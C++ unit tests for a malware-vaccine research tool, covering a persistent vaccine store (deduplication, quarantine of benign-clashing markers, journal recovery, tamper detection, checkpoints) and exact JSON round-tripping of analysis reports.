  explicit ScratchFile(std::string path) : path_(std::move(path)) {
    Remove();
  }
  ~ScratchFile() { Remove(); }
  const std::string& path() const { return path_; }

 private:
  void Remove() {
    for (const char* suffix : {"", ".compact", ".ckpt", ".ckpt.tmp",
                               ".rotate"}) {
      std::remove((path_ + suffix).c_str());
    }
  }
  std::string path_;
};

bool FileExists(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  return in.good();
}

std::string ReadFile(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::ostringstream buffer;
  buffer << in.rdbuf();
  return buffer.str();
}

void WriteFile(const std::string& path, const std::string& text) {
  std::ofstream out(path, std::ios::binary | std::ios::trunc);
  out << text;
}

vaccine::Vaccine MakeVaccine(os::ResourceType type,
                             const std::string& identifier,
                             bool presence = true,
                             analysis::IdentifierClass kind =
                                 analysis::IdentifierClass::kStatic) {
  vaccine::Vaccine v;
  v.malware_name = "sample-" + identifier;
  v.malware_digest = "d-" + identifier;
  v.resource_type = type;
  v.identifier = identifier;
  v.simulate_presence = presence;
  v.identifier_kind = kind;
  v.immunization = analysis::ImmunizationType::kFull;
  v.delivery = kind == analysis::IdentifierClass::kStatic
                   ? vaccine::DeliveryMethod::kDirectInjection
                   : vaccine::DeliveryMethod::kDaemon;
  if (kind == analysis::IdentifierClass::kPartialStatic) {
    auto pattern = Pattern::Compile(identifier);
    EXPECT_TRUE(pattern.ok());
    if (pattern.ok()) v.pattern = std::move(pattern).value();
  }
  return v;
}

// Canonical serialization of a store's feed, for equality comparisons.
std::string FeedImage(const VaccineStore& store) {
  std::string image;
  for (const StoreEntry& entry : store.entries()) {
    image += entry.digest + "|" + std::to_string(entry.epoch) + "|" +
             (entry.quarantined ? "q|" : "s|") +
             vaccine::VaccineToJson(entry.vaccine) + "\n";
  }
  return image;
}

TEST(VaccineStore, PushDedupsAndAssignsEpochs) {
  VaccineStore store;
  const auto a = MakeVaccine(os::ResourceType::kMutex, "evil-a");
  const auto b = MakeVaccine(os::ResourceType::kFile, "C:\\evil-b");

  auto first = store.Push({a, b, a});  // in-batch duplicate too
  ASSERT_TRUE(first.ok()) << first.status().ToString();
  EXPECT_EQ(first->added, 2u);
  EXPECT_EQ(first->duplicates, 1u);
  EXPECT_EQ(first->epoch, 1u);

  // Re-pushing known content adds nothing and does not bump the epoch.
  auto second = store.Push({a, b});
  ASSERT_TRUE(second.ok());
  EXPECT_EQ(second->added, 0u);
  EXPECT_EQ(second->duplicates, 2u);
  EXPECT_EQ(second->epoch, 1u);
  EXPECT_EQ(store.epoch(), 1u);

  // A batch with one new vaccine starts epoch 2.
  auto third = store.Push({b, MakeVaccine(os::ResourceType::kMutex, "c")});
  ASSERT_TRUE(third.ok());
  EXPECT_EQ(third->added, 1u);
  EXPECT_EQ(third->epoch, 2u);

  // Delta sync: epoch 1 onward skips the first batch.
  EXPECT_EQ(store.Since(0).size(), 3u);
  ASSERT_EQ(store.Since(1).size(), 1u);
  EXPECT_EQ(store.Since(1)[0]->vaccine.identifier, "c");
  EXPECT_TRUE(store.Since(2).empty());
}

TEST(VaccineStore, FindDigestIsContentAddressed) {
  VaccineStore store;
  const auto v = MakeVaccine(os::ResourceType::kMutex, "marker");
  ASSERT_TRUE(store.Push({v}).ok());
  const std::string digest = vaccine::VaccineDigest(v);
  ASSERT_NE(store.FindDigest(digest), nullptr);
  EXPECT_EQ(store.FindDigest(digest)->vaccine.identifier, "marker");
  EXPECT_EQ(store.FindDigest("no-such-digest"), nullptr);
}

TEST(VaccineStore, ConflictingVaccinesAreQuarantinedNotServed) {
  analysis::ExclusivenessIndex index;  // builtin whitelist only
  VaccineStore store;
  store.SetConflictIndex(&index);

  // kernel32.dll is on the benign whitelist -> static conflict.
  const auto benign_clash =
      MakeVaccine(os::ResourceType::kLibrary, "kernel32.dll");
  // A pattern that would intercept a whitelisted identifier collides too
  // (pattern backslashes are escaped in the glob dialect).
  const auto pattern_clash =
      MakeVaccine(os::ResourceType::kFile, "c:\\\\windows\\\\*", true,
                  analysis::IdentifierClass::kPartialStatic);
  const auto safe = MakeVaccine(os::ResourceType::kMutex, "EvilMutex123");

  auto stats = store.Push({benign_clash, pattern_clash, safe});
  ASSERT_TRUE(stats.ok()) << stats.status().ToString();
  EXPECT_EQ(stats->added, 3u);
  EXPECT_EQ(stats->quarantined, 2u);
  EXPECT_EQ(store.served_count(), 1u);
  EXPECT_EQ(store.quarantined_count(), 2u);

  // Quarantined entries are stored but never enter the feed.
  ASSERT_EQ(store.Since(0).size(), 1u);
  EXPECT_EQ(store.Since(0)[0]->vaccine.identifier, "EvilMutex123");
  const StoreEntry* entry =
      store.FindDigest(vaccine::VaccineDigest(benign_clash));
  ASSERT_NE(entry, nullptr);
  EXPECT_TRUE(entry->quarantined);
  EXPECT_FALSE(entry->quarantine_reason.empty());
}

TEST(VaccineStore, RescanQuarantinesOnNewEvidence) {
  VaccineStore store;  // no conflict index at push time
  const auto v = MakeVaccine(os::ResourceType::kLibrary, "uxtheme.dll");
  ASSERT_TRUE(store.Push({v}).ok());
  EXPECT_EQ(store.served_count(), 1u);

  analysis::ExclusivenessIndex index;
  store.SetConflictIndex(&index);
  auto retracted = store.RescanConflicts();
  ASSERT_TRUE(retracted.ok());
  EXPECT_EQ(*retracted, 1u);
  EXPECT_EQ(store.served_count(), 0u);
  // A second scan is a no-op.
  EXPECT_EQ(store.RescanConflicts().value(), 0u);
}

TEST(VaccineStore, ManualQuarantineAndUnknownDigest) {
  VaccineStore store;
  const auto v = MakeVaccine(os::ResourceType::kMutex, "m");
  ASSERT_TRUE(store.Push({v}).ok());
  const std::string digest = vaccine::VaccineDigest(v);
  ASSERT_TRUE(store.Quarantine(digest, "operator retraction").ok());
  EXPECT_TRUE(store.FindDigest(digest)->quarantined);
  // Idempotent, and unknown digests are NotFound.
  EXPECT_TRUE(store.Quarantine(digest, "again").ok());
  EXPECT_EQ(store.Quarantine("bogus", "x").code(), StatusCode::kNotFound);
}

TEST(VaccineStore, ReloadIsByteIdenticalAndDurable) {
  ScratchFile file("vacstore_reload_test.jsonl");
  std::string image;
  {
    auto store = VaccineStore::Open(file.path());
    ASSERT_TRUE(store.ok()) << store.status().ToString();
    ASSERT_TRUE(store->persistent());
    ASSERT_TRUE(
        store->Push({MakeVaccine(os::ResourceType::kMutex, "a"),
                     MakeVaccine(os::ResourceType::kFile, "C:\\b")})
            .ok());
    ASSERT_TRUE(
        store->Push({MakeVaccine(os::ResourceType::kService, "svc")}).ok());
    ASSERT_TRUE(store
                    ->Quarantine(vaccine::VaccineDigest(MakeVaccine(
                                     os::ResourceType::kFile, "C:\\b")),
                                 "clinic evidence")
                    .ok());
    image = FeedImage(*store);
  }
  auto reloaded = VaccineStore::Open(file.path());
  ASSERT_TRUE(reloaded.ok()) << reloaded.status().ToString();
  EXPECT_FALSE(reloaded->repaired_torn_tail());
  EXPECT_EQ(FeedImage(*reloaded), image);
  // Two pushes plus one quarantine: retractions get their own epoch so
  // delta-sync clients can pull the tombstone.
  EXPECT_EQ(reloaded->epoch(), 3u);
  EXPECT_EQ(reloaded->served_count(), 2u);
  EXPECT_EQ(reloaded->quarantined_count(), 1u);

  // The quarantine record was folded into the add line by compaction on
  // load; a third open sees one line per entry plus the header.
  auto again = VaccineStore::Open(file.path());
  ASSERT_TRUE(again.ok());
  EXPECT_EQ(FeedImage(*again), image);
}

TEST(VaccineStore, TornTailIsDroppedAndCompactedAway) {
  ScratchFile file("vacstore_torn_test.jsonl");
  std::string image_two;
  {
    auto store = VaccineStore::Open(file.path());
    ASSERT_TRUE(store.ok());
    ASSERT_TRUE(
        store->Push({MakeVaccine(os::ResourceType::kMutex, "a")}).ok());
    ASSERT_TRUE(
        store->Push({MakeVaccine(os::ResourceType::kMutex, "b")}).ok());
    image_two = FeedImage(*store);
    ASSERT_TRUE(
        store->Push({MakeVaccine(os::ResourceType::kMutex, "c")}).ok());
  }
  const std::string intact = ReadFile(file.path());
  const size_t last_line = intact.rfind('\n', intact.size() - 2) + 1;

  for (const size_t cut :
       {last_line + 1, last_line + 20, intact.size() - 1}) {
    WriteFile(file.path(), intact.substr(0, cut));
    auto repaired = VaccineStore::Open(file.path());
    ASSERT_TRUE(repaired.ok()) << "cut=" << cut << ": "
                               << repaired.status().ToString();
    EXPECT_TRUE(repaired->repaired_torn_tail()) << "cut=" << cut;
    EXPECT_EQ(FeedImage(*repaired), image_two) << "cut=" << cut;

    // The compaction rewrote the file: reopening is clean.
    auto clean = VaccineStore::Open(file.path());
    ASSERT_TRUE(clean.ok());
    EXPECT_FALSE(clean->repaired_torn_tail()) << "cut=" << cut;
    EXPECT_EQ(FeedImage(*clean), image_two) << "cut=" << cut;
  }
}

TEST(VaccineStore, MidFileCorruptionRefusesToLoad) {
  ScratchFile file("vacstore_corrupt_test.jsonl");
  {
    auto store = VaccineStore::Open(file.path());
    ASSERT_TRUE(store.ok());
    ASSERT_TRUE(
        store->Push({MakeVaccine(os::ResourceType::kMutex, "a"),
                     MakeVaccine(os::ResourceType::kMutex, "b")})
            .ok());
  }
  std::string corrupted = ReadFile(file.path());
  corrupted.insert(corrupted.find('\n') + 1, "x");
  WriteFile(file.path(), corrupted);
  EXPECT_FALSE(VaccineStore::Open(file.path()).ok());
}

TEST(VaccineStore, DigestMismatchRefusesToLoad) {
  ScratchFile file("vacstore_tamper_test.jsonl");
  {
    auto store = VaccineStore::Open(file.path());
    ASSERT_TRUE(store.ok());
    ASSERT_TRUE(
        store->Push({MakeVaccine(os::ResourceType::kMutex, "orig"),
                     MakeVaccine(os::ResourceType::kMutex, "pad")})
            .ok());
  }
  // Tamper with the stored vaccine without updating its digest.
  std::string tampered = ReadFile(file.path());
  const size_t pos = tampered.find("orig");
  ASSERT_NE(pos, std::string::npos);
  tampered.replace(pos, 4, "evil");
  WriteFile(file.path(), tampered);
  EXPECT_FALSE(VaccineStore::Open(file.path()).ok());
}

TEST(VaccineStore, UncommittedBatchIsDroppedOnReload) {
  ScratchFile file("vacstore_uncommitted_test.jsonl");
  std::string image_one;
  {
    auto store = VaccineStore::Open(file.path());
    ASSERT_TRUE(store.ok());
    ASSERT_TRUE(
        store->Push({MakeVaccine(os::ResourceType::kMutex, "a")}).ok());
    image_one = FeedImage(*store);
    ASSERT_TRUE(
        store->Push({MakeVaccine(os::ResourceType::kMutex, "b")}).ok());
  }
  // Remove the second batch's commit record but keep its (fully
  // terminated) add line: the adds landed, the atomicity point did not.
  std::string journal = ReadFile(file.path());
  const size_t last_line = journal.rfind('\n', journal.size() - 2) + 1;
  ASSERT_NE(journal.substr(last_line).find("\"commit\""),
            std::string::npos);
  WriteFile(file.path(), journal.substr(0, last_line));

  auto reloaded = VaccineStore::Open(file.path());
  ASSERT_TRUE(reloaded.ok()) << reloaded.status().ToString();
  EXPECT_TRUE(reloaded->dropped_uncommitted_batch());
  EXPECT_EQ(FeedImage(*reloaded), image_one);
  EXPECT_EQ(reloaded->epoch(), 1u);

  // The rewrite scrubbed the orphaned adds; the next open is clean, and
  // re-pushing the lost batch converges to the fault-free state.
  auto clean = VaccineStore::Open(file.path());
  ASSERT_TRUE(clean.ok());
  EXPECT_FALSE(clean->dropped_uncommitted_batch());
  ASSERT_TRUE(
      clean->Push({MakeVaccine(os::ResourceType::kMutex, "b")}).ok());
  EXPECT_EQ(clean->entries().size(), 2u);
  EXPECT_EQ(clean->epoch(), 2u);
}

TEST(VaccineStore, CheckpointBoundsRecoveryToTheDelta) {
  ScratchFile file("vacstore_ckpt_test.jsonl");
  std::string image;
  {
    auto store = VaccineStore::Open(file.path());
    ASSERT_TRUE(store.ok());
    ASSERT_TRUE(
        store->Push({MakeVaccine(os::ResourceType::kMutex, "a"),
                     MakeVaccine(os::ResourceType::kFile, "C:\\b")})
            .ok());
    ASSERT_TRUE(
        store->Push({MakeVaccine(os::ResourceType::kService, "svc")}).ok());
    ASSERT_TRUE(store->Checkpoint().ok());
    ASSERT_TRUE(FileExists(file.path() + ".ckpt"));
    // Post-checkpoint delta: one batch (one add + one commit record).
    ASSERT_TRUE(
        store->Push({MakeVaccine(os::ResourceType::kMutex, "delta")}).ok());
    image = FeedImage(*store);
  }
  // The rotated journal holds only the delta; the checkpoint holds the
  // first three entries. Recovery replays exactly two records.
  auto reloaded = VaccineStore::Open(file.path());
  ASSERT_TRUE(reloaded.ok()) << reloaded.status().ToString();
  EXPECT_TRUE(reloaded->checkpoint_loaded());
  EXPECT_FALSE(reloaded->checkpoint_fallback());
  EXPECT_EQ(reloaded->replayed_records(), 2u);
  EXPECT_EQ(FeedImage(*reloaded), image);
  EXPECT_EQ(reloaded->epoch(), 3u);

  // Epochs keep counting from where the checkpoint left off.
  ASSERT_TRUE(
      reloaded->Push({MakeVaccine(os::ResourceType::kMutex, "next")}).ok());
  EXPECT_EQ(reloaded->epoch(), 4u);
}

TEST(VaccineStore, TornCheckpointFallsBackToFullReplay) {
  ScratchFile file("vacstore_ckptfall_test.jsonl");
  std::string image;
  {
    auto store = VaccineStore::Open(file.path());
    ASSERT_TRUE(store.ok());
    ASSERT_TRUE(
        store->Push({MakeVaccine(os::ResourceType::kMutex, "a"),
                     MakeVaccine(os::ResourceType::kMutex, "b")})
            .ok());
    image = FeedImage(*store);
  }
  // A torn/corrupt checkpoint next to an unrotated (complete) journal:
  // recovery must distrust the checkpoint and replay the journal fully.
  WriteFile(file.path() + ".ckpt", "{\"type\":\"vacstore-ckpt\",\"ver");
  auto recovered = VaccineStore::Open(file.path());
  ASSERT_TRUE(recovered.ok()) << recovered.status().ToString();
  EXPECT_TRUE(recovered->checkpoint_fallback());
  EXPECT_FALSE(recovered->checkpoint_loaded());
  EXPECT_EQ(FeedImage(*recovered), image);

  // The unusable checkpoint was discarded; the next open is clean.
  EXPECT_FALSE(FileExists(file.path() + ".ckpt"));
  auto clean = VaccineStore::Open(file.path());
  ASSERT_TRUE(clean.ok());
  EXPECT_FALSE(clean->checkpoint_fallback());
  EXPECT_EQ(FeedImage(*clean), image);
}

TEST(VaccineStore, RotatedJournalWithLostCheckpointRefusesToGuess) {
  ScratchFile file("vacstore_ckptlost_test.jsonl");
  {
    auto store = VaccineStore::Open(file.path());
    ASSERT_TRUE(store.ok());
    ASSERT_TRUE(
        store->Push({MakeVaccine(os::ResourceType::kMutex, "a")}).ok());
    ASSERT_TRUE(store->Checkpoint().ok());
  }
  // The journal was rotated (its base epoch vouches for checkpointed
  // history), so losing the checkpoint means losing data — loading must
  // refuse rather than silently serve an empty feed.
  ASSERT_EQ(std::remove((file.path() + ".ckpt").c_str()), 0);
  auto lost = VaccineStore::Open(file.path());
  ASSERT_FALSE(lost.ok());
  EXPECT_NE(lost.status().ToString().find("rotated"), std::string::npos)
      << lost.status().ToString();

  // Same refusal when the checkpoint exists but is corrupt.
  WriteFile(file.path() + ".ckpt", "garbage\n");
  EXPECT_FALSE(VaccineStore::Open(file.path()).ok());
}

TEST(VaccineStore, EmptyAndHeaderOnlyFilesLoadEmpty) {
  ScratchFile file("vacstore_empty_test.jsonl");
  auto store = VaccineStore::Open(file.path());
  ASSERT_TRUE(store.ok()) << store.status().ToString();
  EXPECT_EQ(store->entries().size(), 0u);
  EXPECT_EQ(store->epoch(), 0u);
  // Open wrote the header; a second open parses it.
  auto again = VaccineStore::Open(file.path());
  ASSERT_TRUE(again.ok()) << again.status().ToString();
  EXPECT_EQ(again->entries().size(), 0u);
}

}  // namespace
}  // namespace autovac::vacstore
