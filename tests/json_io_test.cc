// Exact round-trip coverage for the report wire format (vaccine/json.h)
// and the small JSON parser underneath it (support/json.h). These are
// the bytes the write-ahead journal stores and campaign workers ship
// across the process boundary, so the contract is serialize(parse(x)) ==
// x for every deterministic field — byte equality, not semantic
// equality.
#include <gtest/gtest.h>

#include <cstdint>
#include <limits>
#include <string>

#include "malware/benign.h"
#include "malware/corpus.h"
#include "malware/families.h"
#include "sandbox/sandbox.h"
#include "support/json.h"
#include "support/status.h"
#include "vaccine/json.h"
#include "vaccine/pipeline.h"

namespace autovac {
namespace {

// ---------------------------------------------------------------------
// support/json.h parser
// ---------------------------------------------------------------------

TEST(JsonParser, ParsesScalarsAndContainers) {
  auto parsed = ParseJson(
      R"({"a":1,"b":-2.5,"c":"x","d":true,"e":null,"f":[1,2],"g":{}})");
  ASSERT_TRUE(parsed.ok()) << parsed.status().ToString();
  const JsonValue& json = parsed.value();
  ASSERT_TRUE(json.is_object());
  ASSERT_NE(json.Find("a"), nullptr);
  EXPECT_EQ(json.Find("a")->AsUint64().value(), 1u);
  EXPECT_EQ(json.Find("b")->AsDouble().value(), -2.5);
  EXPECT_EQ(json.Find("c")->AsString().value(), "x");
  EXPECT_TRUE(json.Find("d")->AsBool().value());
  EXPECT_TRUE(json.Find("e")->is_null());
  EXPECT_EQ(json.Find("f")->array.size(), 2u);
  EXPECT_TRUE(json.Find("g")->is_object());
}

TEST(JsonParser, Uint64RoundTripsAboveDoublePrecision) {
  // 2^53 + 1 is not representable as a double; the parser must keep the
  // literal token so uint64 counters survive the journal round trip.
  const uint64_t big = (1ULL << 53) + 1;
  auto parsed = ParseJson("{\"n\":" + std::to_string(big) + "}");
  ASSERT_TRUE(parsed.ok());
  EXPECT_EQ(parsed->Find("n")->AsUint64().value(), big);
  EXPECT_EQ(ParseJson(std::to_string(std::numeric_limits<uint64_t>::max()))
                ->AsUint64()
                .value(),
            std::numeric_limits<uint64_t>::max());
}

TEST(JsonParser, DecodesEscapes) {
  auto parsed = ParseJson(R"("a\"b\\c\nd\u0001e")");
  ASSERT_TRUE(parsed.ok());
  EXPECT_EQ(parsed->AsString().value(),
            std::string("a\"b\\c\nd\x01") + "e");
}

TEST(JsonParser, RejectsMalformedInput) {
  EXPECT_FALSE(ParseJson("").ok());
  EXPECT_FALSE(ParseJson("{\"a\":1").ok());       // truncated
  EXPECT_FALSE(ParseJson("{\"a\":1} x").ok());    // trailing bytes
  EXPECT_FALSE(ParseJson("{'a':1}").ok());        // bad quoting
  EXPECT_FALSE(ParseJson("{\"a\":01}").ok());     // leading zero
  EXPECT_FALSE(ParseJson("\"\x01\"").ok());       // raw control byte
  // Nesting bomb: must hit the depth cap, not the stack guard page.
  std::string bomb;
  for (int i = 0; i < 10'000; ++i) bomb += "[";
  EXPECT_FALSE(ParseJson(bomb).ok());
}

TEST(JsonParser, TruncatedPrefixNeverParses) {
  // A torn journal tail is detected by parse failure; every strict
  // prefix of a record must therefore fail to parse.
  const std::string record =
      R"({"type":"sample","index":3,"report":{"name":"a b","n":[1,2]}})";
  for (size_t cut = 1; cut < record.size(); ++cut) {
    EXPECT_FALSE(ParseJson(record.substr(0, cut)).ok())
        << "prefix of length " << cut << " parsed";
  }
  EXPECT_TRUE(ParseJson(record).ok());
}

// ---------------------------------------------------------------------
// Status / report round trips
// ---------------------------------------------------------------------

Status RoundTripStatus(const Status& status) {
  auto parsed = ParseJson(vaccine::StatusToJson(status));
  EXPECT_TRUE(parsed.ok()) << parsed.status().ToString();
  Status out;
  EXPECT_TRUE(vaccine::StatusFromJson(parsed.value(), &out).ok());
  return out;
}

TEST(StatusJson, RoundTripsEveryCodeAndMessage) {
  for (const Status& status :
       {Status::Ok(), Status::InvalidArgument("bad \"arg\"\n"),
        Status::NotFound(""), Status::Internal("x\\y\x7f"),
        Status::FailedPrecondition("p"),
        Status::DeadlineExceeded("200 ms elapsed")}) {
    const Status back = RoundTripStatus(status);
    EXPECT_EQ(back.code(), status.code());
    EXPECT_EQ(back.message(), status.message());
    EXPECT_EQ(vaccine::StatusToJson(back), vaccine::StatusToJson(status));
  }
}

TEST(StatusJson, RejectsOutOfRangeCode) {
  auto parsed = ParseJson("{\"code\":9999}");
  ASSERT_TRUE(parsed.ok());
  Status out;
  EXPECT_FALSE(vaccine::StatusFromJson(parsed.value(), &out).ok());
}

vaccine::SampleReport RoundTrip(const vaccine::SampleReport& report) {
  auto back = vaccine::ParseSampleReportJson(
      vaccine::SampleReportToJson(report));
  EXPECT_TRUE(back.ok()) << back.status().ToString();
  return std::move(back).value();
}

TEST(ReportJson, HostileNamesRoundTripExactly) {
  vaccine::SampleReport report;
  report.sample_name = "evil \"name\"\nwith\tcontrol\x01\x1f bytes\\";
  report.sample_digest = "0123abcd";
  report.disposition = vaccine::SampleDisposition::kWorkerCrashed;
  report.phase1_status = Status::Internal("worker killed by signal 9");
  report.targets_considered = (1ULL << 60) + 7;  // above double precision
  const vaccine::SampleReport back = RoundTrip(report);
  EXPECT_EQ(back.sample_name, report.sample_name);
  EXPECT_EQ(back.disposition, report.disposition);
  EXPECT_EQ(back.targets_considered, report.targets_considered);
  EXPECT_EQ(vaccine::SampleReportToJson(back),
            vaccine::SampleReportToJson(report));
}

TEST(ReportJson, PipelineReportsRoundTripByteIdentically) {
  // The six paper families reliably produce vaccines; that exercises the
  // deep fields (slices, patterns, BDR doubles) the synthetic tests
  // above cannot reach.
  std::vector<vm::Program> wave;
  for (auto* builder :
       {malware::BuildConficker, malware::BuildZeus, malware::BuildSality,
        malware::BuildQakbot, malware::BuildIBank,
        malware::BuildPoisonIvy}) {
    auto program = builder({});
    ASSERT_TRUE(program.ok()) << program.status().ToString();
    wave.push_back(std::move(program).value());
  }

  // Trained index so the pipeline extracts real vaccines (with slices,
  // patterns and BDR values) — the fields worth round-trip coverage.
  analysis::ExclusivenessIndex index;
  auto benign = malware::BuildBenignCorpus();
  ASSERT_TRUE(benign.ok());
  for (const vm::Program& app : benign.value()) {
    os::HostEnvironment env = os::HostEnvironment::StandardMachine();
    sandbox::RunOptions run_options;
    run_options.enable_taint = false;
    index.IndexBenignTrace(app.name,
                           sandbox::RunProgram(app, env, run_options)
                               .api_trace);
  }
  vaccine::VaccinePipeline pipeline(&index);

  size_t vaccines_seen = 0;
  for (const vm::Program& sample : wave) {
    SCOPED_TRACE(sample.name);
    const vaccine::SampleReport report = pipeline.Analyze(sample);
    vaccines_seen += report.vaccines.size();
    const vaccine::SampleReport back = RoundTrip(report);
    // Byte equality of the re-serialization is the full-field check:
    // every serialized field participates.
    EXPECT_EQ(vaccine::SampleReportToJson(back),
              vaccine::SampleReportToJson(report));
    EXPECT_EQ(back.sample_digest, report.sample_digest);
    EXPECT_EQ(back.vaccines.size(), report.vaccines.size());
    EXPECT_EQ(back.natural_trace.calls.size(),
              report.natural_trace.calls.size());
    for (size_t i = 0; i < report.vaccines.size(); ++i) {
      EXPECT_EQ(vaccine::VaccineToJson(back.vaccines[i]),
                vaccine::VaccineToJson(report.vaccines[i]));
      EXPECT_EQ(back.vaccines[i].Summary(), report.vaccines[i].Summary());
    }
  }
  // The test is vacuous unless some sample actually produced vaccines
  // (slice, pattern and BDR fields would never be exercised).
  EXPECT_GT(vaccines_seen, 0u);
}

TEST(ReportJson, WallTimesAreNotSerialized) {
  vaccine::SampleReport report;
  report.sample_name = "s";
  PhaseTotal cost;
  cost.name = "phase1";
  cost.spans = 2;
  cost.ticks = 40;
  cost.wall_ns = 123456789;  // nondeterministic — must not cross the wire
  report.phase_costs.push_back(cost);
  const std::string json = vaccine::SampleReportToJson(report);
  EXPECT_EQ(json.find("wall"), std::string::npos);
  const vaccine::SampleReport back = RoundTrip(report);
  ASSERT_EQ(back.phase_costs.size(), 1u);
  EXPECT_EQ(back.phase_costs[0].ticks, 40u);
  EXPECT_EQ(back.phase_costs[0].wall_ns, 0u);
}

TEST(ReportJson, RejectsOutOfRangeEnums) {
  vaccine::SampleReport report;
  report.sample_name = "s";
  std::string json = vaccine::SampleReportToJson(report);
  const auto swap = [&](const std::string& from, const std::string& to) {
    std::string mutated = json;
    const size_t at = mutated.find(from);
    ASSERT_NE(at, std::string::npos);
    mutated.replace(at, from.size(), to);
    EXPECT_FALSE(vaccine::ParseSampleReportJson(mutated).ok()) << mutated;
  };
  swap("\"disposition\":0", "\"disposition\":250");
  swap("\"phase1_stop\":0", "\"phase1_stop\":99");
}

TEST(CampaignJson, AggregatesMatchReports) {
  vaccine::SampleReport ok_report;
  ok_report.sample_name = "clean";
  vaccine::SampleReport failed;
  failed.sample_name = "crashed";
  failed.disposition = vaccine::SampleDisposition::kQuarantined;
  failed.phase1_status = Status::FailedPrecondition("quarantined");
  const vaccine::CampaignReport campaign =
      vaccine::BuildCampaignReport({ok_report, failed});
  const std::string json = vaccine::CampaignReportToJson(campaign);
  auto parsed = ParseJson(json);
  ASSERT_TRUE(parsed.ok()) << parsed.status().ToString();
  EXPECT_EQ(parsed->Find("samples")->AsUint64().value(), 2u);
  EXPECT_EQ(parsed->Find("samples_failed")->AsUint64().value(), 1u);
  ASSERT_NE(parsed->Find("reports"), nullptr);
  ASSERT_EQ(parsed->Find("reports")->array.size(), 2u);
  // Each embedded report is the SampleReportToJson bytes.
  EXPECT_EQ(parsed->Find("reports")->array[1].Find("name")->AsString()
                .value(),
            "crashed");
}

}  // namespace
}  // namespace autovac
